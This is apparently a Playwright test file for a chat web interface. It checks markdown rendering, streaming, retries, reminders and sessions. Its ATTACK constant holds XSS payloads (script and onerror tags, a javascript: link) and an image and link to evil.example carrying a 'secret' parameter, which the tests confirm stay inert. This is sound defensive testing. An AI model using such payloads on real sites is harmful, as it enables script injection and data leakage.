"""The conversation in a real browser."""

import asyncio
import re
import signal
from typing import TYPE_CHECKING

import pytest
from playwright.async_api import expect

from browser.stage import Stage
from homarus.testing.quirks.turns import Turn, call, say

if TYPE_CHECKING:
    from playwright.async_api import Page

pytestmark = [pytest.mark.anyio, pytest.mark.browser]

MARKDOWN = "# Plan\n\nDo **this**:\n\n- one\n- two\n\n```python\nprint('hi')\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n"
ATTACK = (
    "<img src=x onerror=\"document.title='owned'\"> <script>document.title='owned'</script>\n\n"
    "[run](javascript:document.title='owned') ![pixel](https://evil.example/p.png?secret=1) "
    "[bank](https://evil.example/login) <https://plain.example/x>"
)


async def new_chat(page: "Page", stage: Stage) -> None:
    await page.goto(f"{stage.url}/chat/new")


async def send(page: "Page", text: str) -> None:
    await page.fill("#words", text)
    await page.press("#words", "Enter")


async def answered(page: "Page", count: int = 1) -> None:
    await expect(page.locator("article.reply:not([data-running])")).to_have_count(count)


async def test_a_message_is_answered_with_markdown_rendered(page: "Page", stage: Stage) -> None:
    stage.model.script = (say(MARKDOWN),)
    await new_chat(page, stage)
    await send(page, "Make a plan")
    await answered(page)

    said = page.locator("article.reply [data-part=said]")
    await expect(said.locator("h1")).to_have_text("Plan")
    await expect(said.locator("li")).to_have_count(2)
    await expect(said.locator("strong")).to_have_text("this")
    await expect(said.locator("td")).to_have_count(2)
    await expect(said.locator(".code button")).to_have_text("Copy")


async def test_words_are_shown_while_they_stream(page: "Page", stage: Stage) -> None:
    stage.model.script = (say("one two three four five six seven eight nine ten"),)
    stage.model.quirks = _quirks("slow_words")
    await new_chat(page, stage)
    await send(page, "Count")

    running = page.locator("article.reply[data-running]")
    await expect(running.locator("[data-part=said]")).to_contain_text("one two three")
    await expect(page.locator("#stop")).to_be_visible()
    await answered(page)
    await expect(page.locator("#stop")).to_be_hidden()


async def test_what_a_model_writes_cannot_run_load_or_hide(page: "Page", stage: Stage) -> None:
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    stage.model.script = (say(ATTACK),)
    await new_chat(page, stage)
    await send(page, "Attack me")
    await answered(page)

    said = page.locator("article.reply [data-part=said]")
    assert await said.locator("img, script, iframe, svg, style").count() == 0
    assert await said.locator("a[href^=javascript]").count() == 0
    assert await page.title() != "owned"
    assert [url for url in asked if "evil.example" in url] == []
    await expect(said).to_contain_text("Picture not loaded: pixel (evil.example)")
    await expect(said).to_contain_text("bank (evil.example)")
    assert await said.locator("a").first.get_attribute("rel") == "noopener noreferrer nofollow"


async def test_an_attack_is_inert_while_it_streams_too(page: "Page", stage: Stage) -> None:
    stage.model.script = (say(ATTACK + " " + "word " * 20),)
    stage.model.quirks = _quirks("slow_words")
    await new_chat(page, stage)
    await send(page, "Attack me")

    said = page.locator("article.reply[data-running] [data-part=said]")
    await expect(said).to_contain_text("plain.example")
    assert await said.locator("img, script, a").count() == 0


async def test_reasoning_is_folded_and_kept(page: "Page", stage: Stage) -> None:
    stage.model.script = (Turn(text="Forty-two.", reasoning="Let me think about six times seven."),)
    await new_chat(page, stage)
    await send(page, "6 x 7?")
    await answered(page)
    await page.reload()

    reasoning = page.locator("[data-part=reasoning]")
    await expect(reasoning.locator(".thoughts")).to_be_hidden()
    await reasoning.locator("summary").click()
    await expect(reasoning.locator(".thoughts")).to_have_text("Let me think about six times seven.")
    await expect(page.locator("[data-part=said]")).to_have_text("Forty-two.")


async def test_every_reply_names_model_place_and_why(page: "Page", stage: Stage) -> None:
    await new_chat(page, stage)
    await send(page, "Hello")
    await answered(page)

    foot = page.locator("article.reply .foot")
    await expect(foot).to_contain_text("scripted/quirk")
    await expect(foot).to_contain_text("this machine")
    await foot.get_by_text("why?").click()
    await expect(foot.locator(".why")).to_contain_text("Chosen")
    await expect(foot.locator(".why")).to_contain_text("of them from the cache")


async def test_escape_stops_and_what_was_said_stays(page: "Page", stage: Stage) -> None:
    stage.model.script = (say("begin " + "and on " * 100),)
    stage.model.quirks = _quirks("slow_words")
    await new_chat(page, stage)
    await send(page, "Talk long")
    await expect(page.locator("article.reply[data-running] [data-part=said]")).to_contain_text("begin and")
    await page.press("#words", "Escape")
    await answered(page)

    await expect(page.locator("article.reply")).to_contain_text("begin and")
    await expect(page.locator("article.reply")).to_contain_text(re.compile("topped"))


async def test_retry_answers_again_below(page: "Page", stage: Stage) -> None:
    stage.model.script = (say("First."),)
    await new_chat(page, stage)
    await send(page, "Say something")
    await answered(page)
    stage.model.script = (say("Second."),)
    await page.locator("[data-act=retry]").click()
    await answered(page, 2)

    await expect(page.locator("article.reply").last).to_contain_text("Second.")


async def test_a_reload_in_the_middle_takes_the_stream_up_again(page: "Page", stage: Stage) -> None:
    stage.model.script = (say("alpha beta gamma delta epsilon zeta eta theta iota kappa lambda mu"),)
    stage.model.quirks = _quirks("slow_words")
    await new_chat(page, stage)
    await send(page, "Greek letters")
    await expect(page.locator("article.reply[data-running]")).to_contain_text("beta")
    await page.reload()

    await expect(page.locator("article.reply[data-running]")).to_contain_text("alpha beta")
    await answered(page)
    await expect(page.locator("[data-part=said]")).to_have_text(
        "alpha beta gamma delta epsilon zeta eta theta iota kappa lambda mu"
    )


async def test_an_error_is_a_sentence_with_a_next_step_and_a_button(page: "Page", stage: Stage) -> None:
    stage.model.quirks = _quirks("unauthorized")
    await new_chat(page, stage)
    await send(page, "Hello")
    await answered(page)

    error = page.locator("[data-part=error]")
    await expect(error).to_contain_text("Next:")
    stage.model.quirks = []
    await error.get_by_role("button", name="Try again").click()
    await expect(page.locator("article.reply").last).to_contain_text("scripted model")


async def test_sessions_are_listed_found_and_apart(page: "Page", stage: Stage) -> None:
    await new_chat(page, stage)
    await send(page, "About pelicans")
    await answered(page)
    await expect(page.locator("#cards a[aria-current]")).to_contain_text("About pelicans")
    await page.get_by_role("link", name="New session").click()
    await expect(page.locator("#hello")).to_be_visible()
    await page.fill("input[name=search]", "pelicans")
    await page.press("input[name=search]", "Enter")

    await page.locator("#found a").first.click()
    await expect(page.locator(".from-user")).to_have_text("About pelicans")


async def test_a_message_sent_elsewhere_appears(page: "Page", stage: Stage) -> None:
    await new_chat(page, stage)
    await send(page, "From here")
    await answered(page)
    session = page.url.rpartition("/")[2]
    await stage.owner("POST", "/api/v1/turns", {"text": "From the terminal", "session": session})

    await answered(page, 2)
    await expect(page.locator(".from-user").last).to_contain_text("From the terminal")


async def test_a_text_can_go_along(page: "Page", stage: Stage) -> None:
    await new_chat(page, stage)
    await page.set_input_files(
        "#files", files=[{"name": "notes.txt", "mimeType": "text/plain", "buffer": b"Milk is out."}]
    )
    await expect(page.locator("#attached")).to_contain_text("notes.txt")
    await send(page, "What is out?")
    await answered(page)

    assert "Milk is out." in stage.model.prompts[-1].body.decode()
    await expect(page.locator(".from-user .chip")).to_contain_text("notes.txt")


async def test_a_long_paste_goes_along_as_text_unless_one_says_otherwise(page: "Page", stage: Stage) -> None:
    await new_chat(page, stage)
    paste = """(text) => {
      const data = new DataTransfer();
      data.setData("text/plain", text);
      document.getElementById("words").dispatchEvent(
        new ClipboardEvent("paste", { clipboardData: data, bubbles: true, cancelable: true }));
    }"""
    await page.evaluate(paste, "one\ntwo\nthree\nfour")
    await expect(page.locator("#attached .chip")).to_contain_text("Pasted text")
    await page.get_by_role("button", name="Into the message").click()

    await expect(page.locator("#words")).to_have_value("one\ntwo\nthree\nfour")
    await expect(page.locator("#attached .chip")).to_have_count(0)


async def test_the_page_stays_where_the_reader_is(page: "Page", stage: Stage) -> None:
    text = "\n\n".join(f"Paragraph {number} of many." for number in range(60))
    stage.model.script = (Turn(text=text, piece_chars=60),)
    stage.model.quirks = _quirks("slow_words")
    await new_chat(page, stage)
    await send(page, "Write much")
    await expect(page.locator("article.reply")).to_contain_text("Paragraph 25")
    await page.evaluate("document.getElementById('thread').scrollTop = 0")
    await asyncio.sleep(0.3)
    await answered(page)

    assert await page.evaluate("document.getElementById('thread').scrollTop") < 60
    await expect(page.locator("#to-end")).to_be_visible()


def _quirks(name: str) -> list["Quirk"]:
    from homarus.testing.quirks.catalogue import quirk_named

    return [quirk_named(name)]


if TYPE_CHECKING:
    from homarus.testing.quirks.quirk import Quirk


async def test_a_reminder_that_comes_due_appears_in_its_conversation(page: "Page", stage: Stage) -> None:
    stage.model.script = lambda asked: (
        say("Set.") if asked.tool_result else call("remind.set", {"text": "Drink tea", "when": "in 2 seconds"})
    )
    await new_chat(page, stage)
    await send(page, "Remind me to drink tea in 2 seconds")
    await answered(page)

    await expect(page.locator("[data-reminder]")).to_contain_text("Reminder: Drink tea")
    await page.reload()
    await expect(page.locator("[data-reminder]")).to_have_count(1)
    await page.goto(f"{stage.url}/")
    await expect(page.locator("#notices")).to_be_empty()


async def test_a_reminder_of_another_conversation_is_a_notice_until_it_is_seen(page: "Page", stage: Stage) -> None:
    stage.model.script = lambda asked: (
        say("Set.") if asked.tool_result else call("remind.set", {"text": "Water the fern", "when": "in 2 seconds"})
    )
    await new_chat(page, stage)
    body = {"text": "Remind me to water the fern in 2 seconds", "session": "web:garden"}
    await stage.owner("POST", "/api/v1/turns", body)

    await expect(page.locator("#notices")).to_contain_text("Water the fern")
    await page.get_by_role("button", name="Seen").click()
    await expect(page.locator("#notices")).to_be_empty()


async def test_a_gateway_killed_in_the_middle_goes_on_with_the_turn(page: "Page", stage: Stage) -> None:
    stage.model.script = (say("alpha beta gamma delta epsilon zeta eta theta iota kappa"),)
    stage.model.quirks = _quirks("slow_words")
    await new_chat(page, stage)
    await send(page, "Greek letters")
    await expect(page.locator("article.reply[data-running]")).to_contain_text("beta")
    await stage.stop(signal.SIGKILL)
    await expect(page.locator(".strip")).to_contain_text("Not reachable")
    await stage.start()

    await expect(page.locator("article.reply:not([data-running])")).to_have_count(1, timeout=20_000)
    await expect(page.locator("[data-part=said]")).to_have_text(
        "alpha beta gamma delta epsilon zeta eta theta iota kappa"
    )
    stage.complaints.clear()


async def test_a_second_message_waits_its_turn_and_says_so(page: "Page", stage: Stage) -> None:
    stage.model.script = (say("a b c d e f g h i j k l m n o p"),)
    stage.model.quirks = _quirks("slow_words")
    await new_chat(page, stage)
    await send(page, "First")
    await expect(page.locator("article.reply[data-running]")).to_contain_text("a b")
    await send(page, "Second")

    await expect(page.locator("[data-running] [data-part=phase]").last).to_have_text("1 before you")
    await answered(page, 2)
    await expect(page.locator(".from-user")).to_have_text([re.compile("First"), re.compile("Second")])


async def test_retry_first_names_what_it_would_repeat(page: "Page", stage: Stage) -> None:
    stage.model.script = lambda asked: (
        say("Noted.") if asked.tool_result else call("memory.save", {"text": "The key hangs by the door"})
    )
    await new_chat(page, stage)
    await send(page, "Note that the key hangs by the door")
    await answered(page)
    await page.locator("[data-act=retry]").click()

    repeats = page.locator("[data-part=repeats]")
    await expect(repeats).to_contain_text("The key hangs by the door")
    await repeats.get_by_role("button", name="Leave it").click()
    await expect(page.locator("article.reply")).to_have_count(1)
